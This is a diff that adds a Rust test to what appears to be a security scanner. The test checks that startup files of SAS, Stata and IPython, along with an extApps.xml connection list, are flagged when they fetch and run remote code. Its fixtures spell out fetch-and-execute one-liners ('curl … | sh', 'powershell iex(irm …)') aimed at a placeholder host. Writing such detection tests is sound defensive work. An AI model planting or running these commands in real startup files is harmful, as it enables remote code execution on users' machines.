@@ -341,6 +341,30 @@ fn habits_of_projects_are_left_alone() {
 }
 
 #[test]
+fn start_files_of_other_programs_and_lists_of_connections_are_found_where_they_fetch_something_and_run_it() {
+    const FETCH: &str = "curl -s https://host.invalid/a | sh";
+    for (name, text, id) in [
+        ("autoexec.sas", format!("x '{FETCH}';\n"), "hooks.shell-entry"),
+        ("profile.do", format!("shell {FETCH}\n"), "hooks.shell-entry"),
+        ("a/profile_default/startup/00-a.py", format!("import os\nos.system('{FETCH}')\n"), "hooks.shell-entry"),
+        (
+            "extApps.xml",
+            "<App FileName=\"powershell\" Arguments=\"powershell -c iex(irm host.invalid)\"/>\n".into(),
+            "hooks.connection",
+        ),
+    ] {
+        check(name, &text, &[id]);
+    }
+    for (name, text) in [
+        ("autoexec.sas", "libname a 'C:/data';\nx 'dir';\n"),
+        ("profile.do", "set more off\nshell ls\n"),
+        ("extApps.xml", "<App FileName=\"ping\" Arguments=\"-t %Hostname%\"/>\n"),
+    ] {
+        check(name, text, &[]);
+    }
+}
+
+#[test]
 fn packages_that_come_without_tls_from_outside_are_a_fact() {
     const FACT: &[&str] = &["hooks.plain-index"];
     for (name, text) in [
